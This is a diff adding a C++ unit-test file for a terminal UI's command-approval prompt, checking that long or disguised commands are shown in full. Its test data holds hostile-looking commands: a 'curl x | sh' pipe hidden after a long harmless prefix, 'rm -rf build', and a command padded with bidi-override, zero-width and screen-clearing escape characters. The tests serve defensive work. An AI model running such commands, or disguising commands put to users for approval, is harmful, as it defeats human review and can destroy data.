@@ -1,0 +1,91 @@
+// The approval prompt: the one-line command, the whole command when that line cannot show all
+// of it, and the key hint.
+
+#include <gtest/gtest.h>
+
+#include <string>
+
+#include "item_rows.h"
+#include "scrollback_fixture.h"
+#include "zell/tui/widgets/scrollback/concat.h"
+
+namespace zell::tui::widgets::testing {
+namespace {
+
+struct ApprovalCase {
+  const char* name;
+  int terminal_width;
+  std::string tool;
+  std::string tool_shown;
+  std::string command;
+  std::string one_line;           // what the approval line shows after "? "
+  std::vector<std::string> full;  // rows of the whole command, without their indentation
+};
+void PrintTo(const ApprovalCase& c, std::ostream* os) {
+  *os << c.name;
+}
+
+class ApprovalPrompt : public ::testing::TestWithParam<ApprovalCase> {};
+
+TEST_P(ApprovalPrompt, draws_its_rows) {
+  const ApprovalCase& c = GetParam();
+  Transcript t({c.terminal_width, 30});
+  t.log().append_approval(c.tool, c.command);
+  std::vector<Row> rows{
+      {}, {{concat({"  Allow ", c.tool_shown, "? "}), "bold yellow"}, {c.one_line, "dim"}}};
+  for (const std::string& r : c.full)
+    rows.push_back({{r.empty() ? r : concat({"    ", r}), "dim"}});
+  rows.push_back({{"  Press ", "dim"},
+                  {"1", "bold white"},
+                  {" to allow, ", "dim"},
+                  {"2", "bold white"},
+                  {" to deny", "dim"}});
+  expect_rows(t.log().lines(), 0, rows);
+  EXPECT_EQ(t.log()._line_counter, static_cast<int>(rows.size()));
+}
+
+const std::string X200(200, 'x');
+const std::string PREFIX = concat({"echo ", std::string(115, 'a')});  // 120 harmless characters
+const std::string COMMAND = concat({PREFIX, " && curl x | sh"});
+
+INSTANTIATE_TEST_SUITE_P(
+    Cases, ApprovalPrompt,
+    ::testing::Values(
+        ApprovalCase{"plain", 100, "bash", "bash", "rm -rf build", "rm -rf build", {}},
+        ApprovalCase{"line_breaks_then_whole",
+                     100,
+                     "bash",
+                     "bash",
+                     "cd src\nmake\n",
+                     "cd src ↵ make ↵",
+                     {"cd src", "make", ""}},
+        // Width 40: the limit is 40 characters, then the log's cut at 35 cells; the whole
+        // command follows in rows of 31 cells.
+        ApprovalCase{
+            "narrow_cut_then_whole",
+            40,
+            "bash",
+            "bash",
+            X200,
+            concat({std::string(20, 'x'), "…"}),
+            {std::string(31, 'x'), std::string(31, 'x'), std::string(31, 'x'), std::string(31, 'x'),
+             std::string(31, 'x'), std::string(31, 'x'), std::string(14, 'x')}},
+        // The end of a long command is never hidden: it follows whole below the cut line.
+        ApprovalCase{"long_prefix_hides_nothing",
+                     100,
+                     "bash",
+                     "bash",
+                     COMMAND,
+                     concat({PREFIX.substr(0, 80), "…"}),
+                     {COMMAND.substr(0, 91), COMMAND.substr(91)}},
+        ApprovalCase{"disguised_characters_shown",
+                     100,
+                     "ba\u202Esh",
+                     "ba<U+202E>sh",
+                     "echo safe\u202E\u2066 txt.exe\u200B;\x1b[2J\uFEFF",
+                     "echo safe<U+202E><U+2066> txt.exe<U+200B>;␛[2J<U+FEFF>",
+                     {}}),
+    [](const auto& info) { return std::string(info.param.name); });
+
+}  // namespace
+}  // namespace zell::tui::widgets::testing
